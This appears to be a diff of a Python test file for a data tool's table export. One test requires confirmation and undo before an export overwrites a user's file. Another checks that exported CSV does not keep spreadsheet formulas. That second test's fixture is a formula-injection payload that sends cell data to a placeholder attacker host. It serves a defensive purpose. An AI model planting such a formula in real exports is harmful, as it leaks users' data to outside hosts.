@@ -89,31 +89,24 @@ def test_too_many_columns_is_a_plain_error_and_the_import_goes_on(sctx, tmp_path
     assert files["x_small.csv"]["rows"] == 1 and out.data["rows"] == 1
 
 
-OVERWRITE = (
-    "export_table overwrite=True replaces a user's file at once: no plan, no confirmation, no journal or "
-    "trash (write_file asks first); needs the ops plan machinery"
-)
-
-
-@pytest.mark.xfail(strict=True, reason=OVERWRITE)
-def test_export_over_an_existing_file_asks_first_or_can_be_undone(sctx, tmp_path):
+def test_export_over_an_existing_file_asks_first_and_can_be_undone(sctx, tmp_path):
+    # (export_table overwrite=True used to replace a user's file at once: no plan, confirmation, journal or undo)
     thesis = tmp_path / "docs" / "thesis.docx"
     thesis.write_text("years of work")
     assert call(sctx, "create_table", table="t", columns={"a": "text"}).ok
+    assert call(sctx, "insert_rows", table="t", rows=[{"a": "x"}]).ok
     out = call(sctx, "export_table", table="t", path="thesis.docx", format="csv", overwrite=True)
-    if out.ok and out.status.value != "confirmation_required":
-        call(sctx, "undo")
+    assert out.status.value == "confirmation_required", out
+    assert thesis.read_text() == "years of work"  # nothing yet
+    done = call(sctx, "export_table", table="t", path="thesis.docx", format="csv", overwrite=True,
+                confirm_token=out.token)  # fmt: skip
+    assert done.ok and thesis.read_text() == "a\nx\n"
+    assert call(sctx, "undo").ok
     assert thesis.read_text() == "years of work"
 
 
-FORMULAS = (
-    "exported CSV keeps values like =HYPERLINK(...) as they are: a hostile statement imported and "
-    "exported runs as a formula in a spreadsheet; neutralising changes data, so it is the lead's call"
-)
-
-
-@pytest.mark.xfail(strict=True, reason=FORMULAS)
 def test_exported_csv_does_not_carry_formulas(sctx, tmp_path):
+    # a hostile statement imported then exported must not run as a formula in a spreadsheet
     evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
     assert call(sctx, "create_table", table="t", columns={"merchant": "text"}).ok
     assert call(sctx, "insert_rows", table="t", rows=[{"merchant": evil}]).ok
